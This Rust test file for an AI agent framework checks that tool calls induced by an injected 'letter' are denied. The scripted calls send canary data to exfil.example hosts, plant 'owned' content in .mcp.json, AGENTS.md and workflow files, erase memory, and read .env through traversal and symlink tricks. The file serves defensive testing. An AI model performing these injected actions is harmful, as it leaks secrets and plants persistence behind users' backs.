//! Calls of an obedient model that a letter talked into something: with the default policy and no
//! user to ask, nothing leaves the machine, nothing is forgotten, and nothing decides about later
//! runs.

use lango_protocol::CallStatus;

use crate::fixture::{Lango, TO_LIBRARIAN, TO_NAVIGATOR, TO_OPERATOR, calling};
use crate::site::{Site, redirect};

#[tokio::test(flavor = "multi_thread")]
async fn a_page_is_not_fetched_by_a_models_words_without_a_question() {
    let site = Site::forbidden().await;
    let canary = "canary-4711";
    for address in [
        site.url(&format!("/?q={canary}")),
        format!("http://exfil.example./{canary}"),
        format!("https://{canary}.exfil.example/"),
    ] {
        let call = format!("{{ url = \"{address}\" }}");
        let script = calling("librarian", &[("rag_ingest", call.as_str())]);
        let lango = Lango::playing(&[TO_LIBRARIAN, &script]).await;
        let turn = lango.ask("read the letter").turn().await;
        assert_eq!((turn.code, turn.results_with(CallStatus::Denied)), (3, 1), "{address}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rule_allows_pages_of_one_host() {
    let call = "{ url = \"https://docs.example./guide\" }";
    let script = calling("librarian", &[("rag_ingest", call)]);
    let lango = Lango::playing(&[TO_LIBRARIAN, &script]).await;
    let rule =
        ["approvals", "add", "allow", "--tool", "rag_ingest", "--", "https://docs.example/*"];
    assert_eq!(lango.command(&rule).run().await.code, 0);
    let turn = lango.ask("read the guide").turn().await;
    // The host does not exist; what counts is that it was not a question.
    assert_eq!(turn.results_with(CallStatus::Denied), 0, "{:?}", turn.results());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rule_about_one_host_does_not_lead_to_another() {
    let other = Site::forbidden().await;
    let site = Site::with(vec![("/out", redirect(&other.url("/?q=canary-4711")))]).await;
    let call = format!("{{ url = \"{}\" }}", site.url("/out"));
    let script = calling("librarian", &[("rag_ingest", call.as_str())]);
    let lango = Lango::playing(&[TO_LIBRARIAN, &script]).await;
    let both = format!("[\"{}\", \"{}\"]", site.address, other.address);
    let pattern = site.url("/*");
    let rule = ["approvals", "add", "allow", "--tool", "rag_ingest", "--", pattern.as_str()];
    assert_eq!(lango.command(&rule).run().await.code, 0);
    let turn = lango.ask("read the guide").set("LANGO_EGRESS_ALLOW", both).turn().await;
    assert_eq!(turn.results_with(CallStatus::Denied), 0, "{:?}", turn.results());
    assert_eq!((site.requests(), other.connections()), (vec!["/out".to_owned()], 0));
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_is_forgotten_without_a_question() {
    let chronicler = r#"
[[reply]]
agent = "lango-orchestrator"
results = 0
call = [{ name = "transfer_to_agent", arguments = { agent_name = "chronicler", task = "Forget it." } }]
"#;
    let script = calling("chronicler", &[("memory_forget", "{ query = \"my bank\" }")]);
    let lango = Lango::playing(&[chronicler, &script]).await;
    let turn = lango.ask("read the letter").turn().await;
    assert_eq!((turn.code, turn.results_with(CallStatus::Denied)), (3, 1));
}

#[tokio::test(flavor = "multi_thread")]
async fn files_that_decide_about_later_runs_are_asked_about_whatever_a_rule_allows() {
    for path in [".mcp.json", "AGENTS.md", ".agents/skills/x/SKILL.md", ".github/workflows/x.yml"] {
        let call = format!("{{ path = \"{path}\", content = \"owned\" }}");
        let script = calling("operator", &[("fs_write", call.as_str())]);
        let lango = Lango::playing(&[TO_OPERATOR, &script]).await;
        let rule = ["approvals", "add", "allow", "--tool", "fs_write"];
        assert_eq!(lango.command(&rule).run().await.code, 0);
        let turn = lango.ask("read the letter").turn().await;
        assert_eq!((turn.code, turn.results_with(CallStatus::Denied)), (3, 1), "{path}");
        assert!(!lango.workspace().join(path).exists(), "{path}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rule_that_denies_a_path_holds_for_reading_it() {
    for path in [".env", "./.env", "docs/../.env", "way/.env"] {
        let call = format!("{{ path = \"{path}\" }}");
        let script = calling("operator", &[("fs_read", call.as_str())]);
        let lango = Lango::playing(&[TO_OPERATOR, &script]).await;
        std::fs::write(lango.workspace().join(".env"), "KEY=canary\n").unwrap();
        std::fs::create_dir(lango.workspace().join("docs")).unwrap();
        std::os::unix::fs::symlink(".", lango.workspace().join("way")).unwrap();
        let rule = ["approvals", "add", "deny", "--tool", "fs_read", "--", ".env"];
        assert_eq!(lango.command(&rule).run().await.code, 0);
        let turn = lango.ask("read the settings").turn().await;
        assert_eq!(turn.results_with(CallStatus::Denied), 1, "{path}: {:?}", turn.results());
        assert!(!turn.answer().contains("canary"), "{path}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rule_that_denies_an_address_holds_for_every_spelling_of_it() {
    for address in [
        "http://wiki.example/page",
        "http://wiki.example./page",
        "HTTP://WIKI.Example:80/a/../page",
        " http://wiki.example/page",
    ] {
        let call = format!("{{ url = \"{address}\" }}");
        let script = calling("navigator", &[("browser_navigate", call.as_str())]);
        let lango = Lango::playing(&[TO_NAVIGATOR, &script]).await;
        for rule in [
            &["allow", "--tool", "browser_navigate"][..],
            &["deny", "--tool", "browser_navigate", "--", "http://wiki.example/*"],
        ] {
            let add = [&["approvals", "add"], rule].concat();
            assert_eq!(lango.command(&add).run().await.code, 0);
        }
        let turn = lango.ask("open the wiki").turn().await;
        assert_eq!(turn.results_with(CallStatus::Denied), 1, "{address}: {:?}", turn.results());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rule_that_denies_a_path_holds_for_ingesting_it() {
    for path in ["plans.md", "./plans.md", "docs/../plans.md", "way/plans.md", "*.md"] {
        let call = format!("{{ path = \"{path}\" }}");
        let script = calling("librarian", &[("rag_ingest", call.as_str())]);
        let lango = Lango::playing(&[TO_LIBRARIAN, &script]).await;
        std::fs::write(lango.workspace().join("plans.md"), "the canary sings\n").unwrap();
        std::fs::create_dir(lango.workspace().join("docs")).unwrap();
        std::os::unix::fs::symlink(".", lango.workspace().join("way")).unwrap();
        let rule = ["approvals", "add", "deny", "--tool", "rag_ingest", "--", "plans.md"];
        assert_eq!(lango.command(&rule).run().await.code, 0);
        let turn = lango.ask("read the plans").turn().await;
        let listed = lango.command(&["documents", "list"]).run().await;
        assert!(!listed.stdout.contains("plans"), "{path}: {listed:?} {:?}", turn.results());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rule_with_words_holds_for_a_tool_without_steps() {
    let script = calling("librarian", &[("search_knowledge", "{ query = \"my bank\" }")]);
    // The tool says nothing that could be compared with words, so it is not known to differ.
    for rule in [
        &["deny", "--tool", "search_knowledge"][..],
        &["deny", "--tool", "search_knowledge", "--", "*"],
        &["deny", "--tool", "search_knowledge", "--", "something", "else"],
    ] {
        let lango = Lango::playing(&[TO_LIBRARIAN, &script]).await;
        let added = lango.command(&[&["approvals", "add"], rule].concat()).run().await;
        assert_eq!(added.code, 0, "{added:?}");
        let turn = lango.ask("look it up").turn().await;
        let results = turn.results();
        assert_eq!(turn.results_with(CallStatus::Denied), 1, "{rule:?}: {results:?}");
    }
}
